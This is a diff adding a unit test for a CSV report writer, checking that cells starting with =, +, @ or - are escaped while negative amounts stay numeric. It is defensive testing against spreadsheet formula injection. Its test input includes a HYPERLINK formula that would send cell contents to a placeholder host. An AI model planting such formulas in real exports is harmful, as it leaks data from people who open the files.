@@ -37,6 +37,34 @@ describe(CsvReportWriter.name, () => {
     expect(text).toContain(',Café con leche ñ €,');
   });
 
+  it('should neutralise formulas in text columns and keep negative amounts as numbers', () => {
+    const text = writer.rows([
+      reportRow({
+        description: '=HYPERLINK("http://x.invalid/?"&A2,"Click")',
+        customerCode: '+31600000000',
+        itemCode: '@ITEM',
+        employeeCode: '-E1',
+        quantity: '-1.0000',
+        net: '-1.00',
+        tax: '-0.21',
+        gross: '-1.21',
+      }),
+    ]);
+    const [record]: string[][] = parse(text);
+    const cell = (column: (typeof REPORT_COLUMNS)[number]) =>
+      record[REPORT_COLUMNS.indexOf(column)];
+    expect(cell('description')).toBe('\'=HYPERLINK("http://x.invalid/?"&A2,"Click")');
+    expect(cell('customerCode')).toBe("'+31600000000");
+    expect(cell('itemCode')).toBe("'@ITEM");
+    expect(cell('employeeCode')).toBe("'-E1");
+    expect([cell('quantity'), cell('net'), cell('tax'), cell('gross')]).toEqual([
+      '-1.0000',
+      '-1.00',
+      '-0.21',
+      '-1.21',
+    ]);
+  });
+
   it('should parse back with a CSV parser to the same values', () => {
     const rows = [
       reportRow({ description: 'a,b "c"\r\nd', customerCode: 'C1' }),
